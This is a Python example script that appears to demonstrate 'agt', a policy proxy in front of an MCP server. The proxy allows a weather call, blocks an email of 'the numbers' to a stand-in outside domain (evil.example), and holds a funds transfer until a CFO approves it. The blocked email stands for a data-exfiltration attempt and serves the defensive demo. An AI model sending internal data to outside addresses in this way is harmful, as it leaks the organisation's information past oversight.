"""agt in front of an MCP server, offline: a governing proxy between an MCP client and a real MCPServer.

    python examples/mcp_proxy.py        (needs: pip install 'agt[mcp]')

The upstream server has three tools. The client (a scripted stand-in for an agent's MCP host) lists them
and calls each through agt's proxy: the weather is allowed, mail to an outside domain is denied by the
policy (and never reaches the server), and a large transfer waits for the CFO's signed approval.
The same proxy runs stand-alone in front of any stdio server with:

    agt mcp proxy --policy policy.yaml --agent support-bot -- python my_server.py

The policy (examples/offline_policy.yaml), the plain tools and the CFO's keys come from examples/_offline.py.
"""

from __future__ import annotations

import asyncio
import os

os.environ.setdefault("OTEL_SDK_DISABLED", "true")

import mcp  # noqa: E402
from mcp.server.mcpserver import MCPServer  # noqa: E402

from _offline import (  # noqa: E402
    RAN, cfo_approves_when_asked, get_weather, offline_governor, send_email, transfer_funds)
from agt.adapters.mcp import GoverningProxy  # noqa: E402

upstream = MCPServer("bank")  # the real server agt sits in front of, with the three tools
for fn in (get_weather, send_email, transfer_funds):
    upstream.tool()(fn)


async def main() -> None:
    with offline_governor("mcp", keep=True) as env:  # examples/offline_policy.yaml, a signed audit log, the CFO
        proxy = GoverningProxy(env.governor, upstream, agent_id="support-bot")

        async with mcp.Client(proxy.server) as client:
            tools = await client.list_tools()
            print("tools through the proxy:", ", ".join(t.name for t in tools.tools))
            for name, args in (("get_weather", {"city": "Paris"}),
                               ("send_email", {"to": "boss@evil.example", "body": "the numbers"}),
                               ("transfer_funds", {"amount": 500})):
                voter = cfo_approves_when_asked(env, announce=True) if name == "transfer_funds" else None
                result = await client.call_tool(name, args)
                if voter is not None:
                    voter.join()
                text = " ".join(getattr(c, "text", "") for c in result.content)
                print(f"{name}: {'DENIED' if result.is_error else 'ok'}: {text}")
    print("tool bodies that ran upstream:", ", ".join(RAN))
    print(f"audit log: {env.audit_dir}")


if __name__ == "__main__":
    asyncio.run(main())
